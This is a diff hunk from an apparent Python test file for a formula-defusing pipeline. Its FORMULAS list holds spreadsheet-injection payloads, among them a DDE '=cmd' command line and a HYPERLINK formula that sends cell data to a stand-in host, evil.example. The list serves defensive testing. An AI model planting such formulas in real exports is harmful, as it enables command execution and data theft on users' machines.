@@ -28,6 +28,8 @@ from agents.tickets import CATEGORIES, PRIORITIES, SENTIMENTS
 from pipeline.contracts import DATASETS
 from pipeline.formulas import defused, restored
 
+pytestmark = pytest.mark.usefixtures("trusting")
+
 FORMULAS = [
     *("=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"),
     *("'=1", "''=1", "-5", "+91 98450 00001", "=1,2\n=3"),
